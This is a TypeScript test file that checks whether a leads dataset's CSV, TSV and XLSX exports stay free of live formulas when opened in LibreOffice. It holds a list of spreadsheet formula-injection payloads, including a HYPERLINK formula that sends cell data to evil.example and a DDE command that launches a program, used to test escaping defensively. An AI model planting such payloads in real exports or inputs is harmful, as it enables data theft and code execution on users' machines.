/**
 * Opens exports the way a user's spreadsheet would: LibreOffice headless reads the CSV (with
 * "evaluate formulas" ON, the worst case), the TSV and the XLSX and saves them as flat ODS XML,
 * where a formula cell would carry a `table:formula` attribute.
 */
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from './harness.ts';

const run = promisify(execFile);
const SOFFICE = ['/usr/bin/soffice', '/usr/local/bin/soffice'].find((p) => existsSync(p));

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1,2)',
  '=cmd|\' /C calc\'!A0',
  '\tTabbed=1+1',
];

/** LibreOffice's CSV filter options: separator, quote, UTF-8, from line 1, …, token 13 "evaluate formulas". */
const csvFilter = (separator: number) => `CSV:${separator},34,76,1,,0,false,true,false,false,false,-1,true`;

describe.skipIf(!SOFFICE)('exports opened in LibreOffice', () => {
  let s: TestServer;
  let dir: string;

  /** Converts a file to flat ODS and returns the cells: formula (if any), type and text. */
  async function openInCalc(name: string, bytes: Uint8Array, infilter?: string) {
    const file = join(dir, name);
    await writeFile(file, bytes);
    await run(SOFFICE!, [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless',
      ...(infilter ? [`--infilter=${infilter}`] : []), '--convert-to', 'fods', '--outdir', join(dir, 'out'), file], { timeout: 60_000 });
    const xml = await readFile(join(dir, 'out', name.replace(/\.\w+$/, '.fods')), 'utf8');
    const cells = [...xml.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map((m) => ({
      formula: /table:formula="([^"]*)"/.exec(m[1]!)?.[1],
      type: /office:value-type="(\w+)"/.exec(m[1]!)?.[1],
      text: [...(m[2] ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) => p[1]!
        .replace(/<text:tab\/>/g, '\t').replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n?: string) => ' '.repeat(Number(n ?? 1)))
        .replace(/<[^>]+>/g, '').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>')
        .replace(/&amp;/g, '&')).join('\n'),
    }));
    return { cells, xml };
  }
  const exportOf = async (q: string) => new Uint8Array(await (await s.call('GET', `/api/datasets/leads/export?${q}`)).arrayBuffer());

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sluice-lo-'));
    s = await startTestServer('pglite');
    for (const [i, text] of HOSTILE.entries()) {
      await s.db.sql`insert into ds_leads (org_id, name, phone, source, score, notes)
        values (${s.orgId}, ${text}, ${`+1415201456${i}`}, 'web', ${i === 0 ? -5 : i}, ${text})`;
    }
  }, 60_000);
  afterAll(async () => {
    await s?.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('a raw CSV with formulas does run them in LibreOffice (the check below can see a formula)', async () => {
    const { cells } = await openInCalc('control.csv', new TextEncoder().encode('a,b\r\n=1+1,x\r\n'), csvFilter(44));
    expect(cells.filter((c) => c.formula)).toHaveLength(1);
  }, 60_000);

  it('no cell of the CSV or TSV export is a formula, numbers and phones stay as they are', async () => {
    for (const [format, separator] of [['csv', 44], ['tsv', 9]] as const) {
      const { cells, xml } = await openInCalc(`leads.${format}`, await exportOf(`format=${format}&columns=name,phone,score,notes`), csvFilter(separator));
      expect(xml).not.toContain('table:formula');
      expect(cells.filter((c) => c.formula)).toEqual([]);
      const texts = cells.map((c) => c.text);
      for (const hostile of HOSTILE) expect(texts).toContain(`'${hostile}`);
      expect(cells.find((c) => c.text === '-5')?.type).toBe('float');
    }
  }, 60_000);

  it('no cell of the XLSX export is a formula; hostile text shows exactly as text', async () => {
    const { cells, xml } = await openInCalc('leads.xlsx', await exportOf('format=xlsx&columns=name,phone,score,notes'));
    expect(xml).not.toContain('table:formula');
    const texts = cells.map((c) => c.text);
    for (const hostile of HOSTILE) {
      const found = cells.filter((c) => c.text === hostile);
      expect(found.length, hostile).toBe(2); // name and notes
      expect(found.every((c) => c.type === 'string')).toBe(true);
    }
    expect(texts).toContain('+14152014560');
    expect(cells.find((c) => c.text === '-5')?.type).toBe('float');
  }, 60_000);
});
